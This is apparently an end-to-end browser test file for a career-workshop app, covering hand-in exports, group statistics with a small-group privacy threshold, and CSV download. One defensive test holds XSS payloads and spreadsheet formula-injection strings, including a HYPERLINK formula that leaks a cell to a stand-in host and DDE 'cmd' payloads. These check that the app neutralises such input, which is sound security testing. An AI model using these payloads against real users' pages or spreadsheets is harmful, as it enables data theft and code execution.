// The workshop: a participant's hand-in export matches its preview; the facilitator loads
// hand-in files (a duplicate and a corrupt one among them) through the real file picker, sees
// the group picture of five participants and downloads its CSV; four participants are too few;
// HR's organisation check scores and remembers its answers; the facilitator guide is complete.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, writeFile, mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { useApp, openPage, waitForApp, axeViolations } from './support.mjs';

const HANDINS = join(dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'handin');
const file = (name) => join(HANDINS, `${name}.crossroads-handin.json`);

let app;
let browser;

useApp((up) => ({ app, browser } = up));

async function openWorkshop(options) {
  const opened = await openPage(browser, app.origin, options);
  await opened.page.goto(`${app.url}#/workshop`);
  await waitForApp(opened.page);
  await opened.page.locator('[data-testid=group]').waitFor();
  return opened;
}

test('the facilitator sees five participants from six hand-ins (one a duplicate) and the corrupt file’s error', async () => {
  const { page, problems, context } = await openWorkshop();
  assert.match(await page.locator('[data-testid=group-empty]').innerText(), /No files loaded yet/);
  await page.setInputFiles('[data-testid=group-files-input]', ['p1', 'p2', 'p3', 'p4', 'p5', 'p3-again', 'corrupt'].map(file));
  const summary = page.locator('[data-testid=group-summary]');
  await summary.waitFor();
  assert.match(await summary.innerText(), /^5 participants from 7 files\s+1 file skipped/);
  const errors = page.locator('[data-testid=group-errors] [data-testid=group-file]');
  assert.equal(await errors.count(), 1);
  const error = await errors.innerText();
  assert.match(error, /corrupt\.crossroads-handin\.json: skipped: /);
  assert.match(error, /not a readable Crossroads file/, error);

  const picture = page.locator('[data-testid=group-picture]');
  await picture.waitFor();
  assert.equal(await page.locator('[data-testid=group-hidden]').count(), 0);
  assert.match(await page.locator('[data-testid=group-with-attitudes]').innerText(), /^5 of 5 participants/);
  assert.equal(await page.locator('[data-testid=group-boxplots] .boxplot-box').count(), 9, 'a box plot per attitude');
  const rows = page.locator('[data-testid=group-attitudes-table] tbody tr');
  assert.equal(await rows.count(), 9);
  assert.match(await rows.first().innerText(), /Self-directed career management\s+5\s+\d/);
  const meaning = page.locator('[data-testid=group-values] tr[data-key=meaning]');
  assert.match(await meaning.innerText(), /Meaning\s+5\s+100 %/);
  assert.equal(await page.locator('[data-testid=group-moves] tbody tr').count(), 7);
  const fileList = page.locator('[data-testid=group-file-list] [data-testid=group-file]');
  assert.equal(await fileList.count(), 7);
  assert.equal(await page.locator('[data-testid=group-file-list] [data-outcome=dup]').count(), 1);

  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid=group-csv]').click()]);
  assert.match(download.suggestedFilename(), /^crossroads-group-\d{4}-\d{2}-\d{2}\.csv$/);
  const csv = await readFile(await download.path(), 'utf8');
  const lines = csv.trim().split('\r\n');
  assert.equal(lines[0], 'section,key,label,participants,share,min,q1,median,q3,max,mean');
  assert.equal(lines[1], 'group,participants,Participants,5,,,,,,,');
  assert.match(csv, /\r\nattitudes,self_directed,Self-directed career management,5,1,[\d.]+,[\d.]+,[\d.]+,[\d.]+,[\d.]+,[\d.]+\r\n/);
  assert.match(csv, /\r\nvalues,meaning,Meaning,5,1,,,,,,\r\n/);
  assert.equal(lines.filter((l) => l.startsWith('moves,')).length, 7);
  for (const name of ['p1', 'p2', 'p3', 'p4', 'p5', 'p3-again']) {
    const { handin_id: id } = JSON.parse(await readFile(file(name), 'utf8'));
    assert.ok(!csv.includes(id), `no hand-in id in the CSV (${name})`);
  }
  assert.ok(!csv.includes('.json'), 'no file names in the CSV');

  await page.locator('[data-testid=group-clear]').click();
  await page.locator('[data-testid=group-empty]').waitFor();
  assert.deepEqual(await problems(), []);
  await context.close();
});

test('with four participants the group picture is hidden, with an explanation', async () => {
  const { page, problems, context } = await openWorkshop();
  await page.setInputFiles('[data-testid=group-files-input]', ['p1', 'p2', 'p3', 'p4'].map(file));
  const hidden = page.locator('[data-testid=group-hidden]');
  await hidden.waitFor();
  assert.match(await hidden.innerText(), /appears from 5 participants, to protect small groups[\s\S]*Participants loaded now: 4\./);
  assert.equal(await page.locator('[data-testid=group-picture]').count(), 0);
  assert.equal(await page.locator('[data-testid=group-csv]').count(), 0, 'no CSV of a hidden picture');
  // A fifth person, dropped in later, reveals it.
  await page.setInputFiles('[data-testid=group-files-input]', [file('p5')]);
  await page.locator('[data-testid=group-picture]').waitFor();
  assert.match(await page.locator('[data-testid=group-summary]').innerText(), /^5 participants from 5 files/);
  assert.deepEqual(await problems(), []);
  await context.close();
});

test('the participant’s hand-in file is exactly what the preview shows', async () => {
  const { page, problems, context } = await openWorkshop();
  assert.match(await page.locator('[data-testid=handin-nothing]').innerText(), /nothing to hand in yet/);
  await page.goto(`${app.url}#/`);
  await page.getByRole('button', { name: 'Load the example' }).click();
  await page.locator('[data-testid=save-status].ok').waitFor();
  await page.goto(`${app.url}#/workshop`);
  const preview = page.locator('[data-testid=handin-preview]');
  await preview.waitFor();
  const shownJson = await page.locator('[data-testid=handin-json]').textContent();
  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid=handin-download]').click()]);
  assert.match(download.suggestedFilename(), /^crossroads-\d{4}-\d{2}-\d{2}\.crossroads-handin\.json$/);
  const text = await readFile(await download.path(), 'utf8');
  assert.equal(text, shownJson, 'the file is the text the preview shows');
  const doc = JSON.parse(text);
  assert.deepEqual(Object.keys(doc).sort(), ['attitudes', 'format', 'handin_id', 'moves', 'values_top', 'version']);
  assert.equal(doc.format, 'crossroads-handin');
  assert.equal(doc.version, 1);
  assert.match(await page.locator('[data-testid=handin-id]').innerText(), new RegExp(doc.handin_id));
  const shownValues = await page.locator('[data-testid=handin-values] li').evaluateAll((els) => els.map((e) => e.dataset.key));
  assert.deepEqual(shownValues, doc.values_top);
  assert.deepEqual(doc.values_top, ['meaning', 'autonomy', 'balance', 'helping', 'learning']);
  const shownMoves = await page.locator('[data-testid=handin-moves] li').evaluateAll((els) => els.map((e) => e.dataset.key));
  assert.deepEqual(shownMoves, doc.moves);
  const shownScales = await page.locator('[data-testid=handin-attitudes] li').evaluateAll((els) => els.map((e) => e.dataset.subscale));
  assert.deepEqual(shownScales.sort(), Object.keys(doc.attitudes).sort());
  // Nothing the person typed: no option or experience names from the example.
  const stored = await page.evaluate(() => JSON.parse(localStorage.getItem('crossroads.workbook')).workbook);
  for (const option of stored.decision.options) assert.ok(!text.includes(option.name));
  for (const experience of stored.experiences) assert.ok(!text.includes(experience.title));
  assert.match(await page.locator('[data-testid=handin-status]').innerText(), /^Downloaded crossroads-/);

  // The facilitator side reads it back.
  const path = join(await mkdtemp(join(tmpdir(), 'crossroads-e2e-')), 'mine.crossroads-handin.json');
  await writeFile(path, text);
  await page.setInputFiles('[data-testid=group-files-input]', [path]);
  assert.match(await page.locator('[data-testid=group-summary]').innerText(), /^1 participant from 1 file/);
  assert.deepEqual(await problems(), []);
  await context.close();
});

test('the organisation check scores each theme, suggests what to do and remembers the answers', async () => {
  const { page, problems, context } = await openWorkshop();
  await page.locator('[data-testid=link-org-check]').click();
  await page.locator('[data-testid=org-progress]').waitFor();
  assert.match(await page.locator('[data-testid=org-progress]').innerText(), /^0 of 16 statements answered/);
  // Policies: both barriers fully present, the other two "a little".
  for (const [item, label] of [['pl1', 'Fully'], ['pl2', 'Fully'], ['pl3', 'A little'], ['pl4', 'A little']]) {
    await page.locator(`fieldset[data-item=${item}]`).getByLabel(label, { exact: true }).check();
  }
  const policies = page.locator('[data-testid=org-theme-result][data-theme=policies]');
  await policies.waitFor();
  assert.match(await policies.innerText(), /17 % ready: starting/);
  assert.match(await policies.innerText(), /Review pay and grading/);
  assert.match(await page.locator('[data-testid=org-table] tr[data-theme=policies]').innerText(), /17 %\s+starting/);
  await page.reload();
  await waitForApp(page);
  assert.match(await page.locator('[data-testid=org-progress]').innerText(), /^4 of 16 statements answered/);
  await page.locator('[data-testid=org-clear]').click();
  assert.match(await page.locator('[data-testid=org-progress]').innerText(), /^0 of 16/);
  // Clearing can be undone, then cleared again.
  await page.locator('[data-testid=org-undo-clear]').click();
  assert.match(await page.locator('[data-testid=org-progress]').innerText(), /^4 of 16 statements answered/);
  await page.locator('[data-testid=org-clear]').click();
  assert.match(await page.locator('[data-testid=org-progress]').innerText(), /^0 of 16/);
  // The answers never reach the workbook.
  const stored = await page.evaluate(() => localStorage.getItem('crossroads.workbook') ?? '');
  assert.ok(!stored.includes('pl1'));
  assert.deepEqual(await problems(), []);
  await context.close();
});

test('the facilitator guide plans 90 minutes in three languages', async () => {
  const { page, problems, context } = await openWorkshop();
  await page.locator('[data-testid=link-guide]').click();
  const steps = page.locator('[data-testid=guide-steps] > li');
  await steps.first().waitFor();
  assert.equal(await steps.count(), 8);
  assert.match(await steps.first().innerText(), /0–10 min/);
  assert.match(await steps.last().innerText(), /80–90 min/);
  assert.match(await page.locator('main').innerText(), /Hand-ins and privacy/);
  for (const [lang, title] of [['nl', /^Handleiding voor begeleiders/], ['fr', /^Guide d’animation/]]) {
    await page.goto(`${app.url}?lang=${lang}#/workshop/guide`);
    await waitForApp(page);
    assert.match(await page.locator('main h1').innerText(), title);
  }
  assert.deepEqual(await problems(), []);
  await context.close();
});

for (const colorScheme of ['light', 'dark']) {
  test(`the group picture and the hand-in preview pass axe and fit 360 px (${colorScheme})`, async () => {
    const { page, problems, context } = await openWorkshop({
      contextOptions: { colorScheme, viewport: { width: 360, height: 800 }, reducedMotion: 'reduce' },
    });
    await page.goto(`${app.url}#/`);
    await page.getByRole('button', { name: 'Load the example' }).click();
    await page.locator('[data-testid=example-banner]').waitFor();
    await page.goto(`${app.url}#/workshop`);
    await page.locator('[data-testid=handin-preview]').waitFor();
    await page.setInputFiles('[data-testid=group-files-input]', ['p1', 'p2', 'p3', 'p4', 'p5', 'corrupt'].map(file));
    await page.locator('[data-testid=group-picture]').waitFor();
    await page.locator('.handin-text summary').click();
    await page.locator('.group-files summary').click();
    assert.deepEqual(await axeViolations(page), []);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.ok(overflow <= 0, `#/workshop scrolls sideways by ${overflow} px`);
    await page.locator('[data-testid=group-clear]').click();
    await page.setInputFiles('[data-testid=group-files-input]', ['p1', 'p2'].map(file));
    await page.locator('[data-testid=group-hidden]').waitFor();
    assert.deepEqual(await axeViolations(page), [], 'hidden picture');
    await page.goto(`${app.url}#/workshop/org-check`);
    await page.locator('fieldset[data-item=cm1]').getByLabel('Largely', { exact: true }).check();
    await page.locator('fieldset[data-item=cm2]').getByLabel('A little', { exact: true }).check();
    await page.locator('[data-testid=org-theme-result]').first().waitFor();
    assert.deepEqual(await axeViolations(page), [], 'org check with results');
    assert.deepEqual(await problems(), []);
    await context.close();
  });
}

/** Parses RFC 4180 CSV (CRLF rows, quoted cells with doubled quotes); throws on a malformed quote. */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i += 2; continue; }
      if (ch === '"') {
        quoted = false;
        i += 1;
        if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
        continue;
      }
      cell += ch;
      i += 1;
      continue;
    }
    if (ch === '"') {
      if (cell !== '') throw new Error(`a quote inside an unquoted cell at ${i}`);
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else if (ch === '\n' || ch === '\r') {
      throw new Error(`a bare line break at ${i}`);
    } else {
      cell += ch;
    }
    i += 1;
  }
  if (quoted) throw new Error('an unclosed quote');
  if (cell !== '' || row.length > 0) throw new Error('the last row has no CRLF');
  return rows;
}

test('hostile text in hand-in files and their names stays inert in the group picture and never reaches the CSV', async () => {
  const { page, problems, context } = await openWorkshop();
  let dialogs = 0;
  page.on('dialog', async (d) => { dialogs += 1; await d.dismiss(); });
  const markup = ['<script>alert(1)</script>', '<img src=x onerror="alert(2)">', '<svg onload="alert(3)"></svg>', '<iframe srcdoc="<script>alert(4)</script>"></iframe>'];
  const formulas = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1', '\t=1+1'];
  const payloads = [...markup, ...formulas];
  const valid = await Promise.all(['p1', 'p2', 'p3', 'p4', 'p5'].map(async (name) => JSON.parse(await readFile(file(name), 'utf8'))));
  // Five real participants, each file named by a payload (a slash cannot be in a file name) and
  // carrying payloads wherever the format has room: unknown values, moves, subscales and fields.
  const names = [
    '<img src=x onerror=alert(5)>.crossroads-handin.json',
    '<svg onload=alert(6)>.crossroads-handin.json',
    '=HYPERLINK("http:\\\\example.invalid","x").crossroads-handin.json',
    '+cmd, "quoted" -1+1.crossroads-handin.json',
    '@SUM(A1) <b>bold<b>.crossroads-handin.json',
  ];
  const files = valid.map((doc, k) => ({
    name: names[k],
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify({
      ...doc,
      values_top: [...doc.values_top.slice(0, 3), payloads[k], payloads[k + 5 < payloads.length ? k + 5 : 0]],
      moves: [...doc.moves, payloads[(k + 1) % payloads.length]],
      attitudes: { ...doc.attitudes, [payloads[(k + 2) % payloads.length]]: 3 },
      note: payloads.join(' '),
    })),
  }));
  // And files the reader refuses, whose error messages may quote what they found.
  const refused = [
    { name: '<script>alert(7)<script>.json', text: `{"format":"crossroads-handin","version":1,"handin_id":"h-a","${markup[1].replace(/"/g, '\\"')}":1,"${markup[1].replace(/"/g, '\\"')}":2}` },
    { name: '-2+3.json', text: `{"format":"crossroads-handin","version":1,"handin_id":"${markup[0]}"}` },
    { name: '@x.json', text: `{"format":"${formulas[0].replace(/"/g, '\\"')}","version":1}` },
    { name: '=1+1.json', text: `${markup[2]}` },
  ].map(({ name, text }) => ({ name, mimeType: 'application/json', buffer: Buffer.from(text) }));
  await page.setInputFiles('[data-testid=group-files-input]', [...files, ...refused]);
  await page.locator('[data-testid=group-picture]').waitFor();
  assert.match(await page.locator('[data-testid=group-summary]').innerText(), /^5 participants from 9 files\s+4 files skipped/);
  await page.locator('.group-files summary').click();

  // Every file name is shown as the text it is.
  const listed = await page.locator('[data-testid=group-file-list] [data-testid=group-file] .file-name').allInnerTexts();
  assert.deepEqual([...listed].sort(), [...names, ...refused.map((f) => f.name)].sort());
  const errors = await page.locator('[data-testid=group-errors] [data-testid=group-file]').allInnerTexts();
  assert.equal(errors.length, 4);
  assert.ok(errors.some((e) => e.includes(markup[1])), `the duplicate key is quoted as text: ${errors.join(' | ')}`);
  // Only catalogued values and moves are counted: no payload became a row.
  const mainText = await page.locator('[data-testid=group-picture]').innerText();
  for (const p of payloads) assert.ok(!mainText.includes(p.trim()), `the group picture does not show ${p}`);
  assert.equal(await page.locator('[data-testid=group-values] tbody tr').count(),
    new Set(valid.flatMap((d) => d.values_top.slice(0, 3))).size, 'a row per catalogued value');
  // Nothing was injected, nothing ran.
  assert.equal(await page.locator('main script, main img, main iframe, main b, main svg[onload], [onerror], [onload], [srcdoc]').count(), 0);
  assert.equal(dialogs, 0, 'no payload ran');

  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid=group-csv]').click()]);
  const csv = await readFile(await download.path(), 'utf8');
  const rows = parseCsv(csv);
  assert.ok(rows.length > 10);
  for (const [k, row] of rows.entries()) {
    assert.equal(row.length, 11, `row ${k} has 11 cells: ${JSON.stringify(row)}`);
    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `row ${k}: a cell a spreadsheet reads as a formula: ${JSON.stringify(cell)}`);
  }
  for (const p of [...payloads, ...names, ...refused.map((f) => f.name)]) assert.ok(!csv.includes(p.trim()), `the CSV does not carry ${p}`);
  assert.ok(!/<|>/.test(csv), 'no markup in the CSV');
  assert.deepEqual(await problems(), []);
  await context.close();
});

test('the CSV quotes and guards its cells in every language, and reads back cell for cell', async () => {
  const { page, problems, context } = await openWorkshop();
  for (const lang of ['en', 'nl', 'fr']) {
    await page.goto(`${app.url}?lang=${lang}#/workshop`);
    await waitForApp(page);
    await page.locator('[data-testid=group]').waitFor();
    await page.setInputFiles('[data-testid=group-files-input]', ['p1', 'p2', 'p3', 'p4', 'p5'].map(file));
    await page.locator('[data-testid=group-picture]').waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid=group-csv]').click()]);
    const csv = await readFile(await download.path(), 'utf8');
    const rows = parseCsv(csv);
    assert.deepEqual(rows[0], ['section', 'key', 'label', 'participants', 'share', 'min', 'q1', 'median', 'q3', 'max', 'mean'], lang);
    const shown = await page.locator('[data-testid=group-attitudes-table] tbody th').allInnerTexts();
    assert.deepEqual(rows.filter((r) => r[0] === 'attitudes').map((r) => r[2]), shown, `${lang}: the labels read back as shown`);
    for (const row of rows) {
      assert.equal(row.length, 11, `${lang}: ${JSON.stringify(row)}`);
      for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `${lang}: ${JSON.stringify(cell)}`);
    }
    await page.locator('[data-testid=group-clear]').click();
    await page.locator('[data-testid=group-empty]').waitFor();
  }
  assert.deepEqual(await problems(), []);
  await context.close();
});
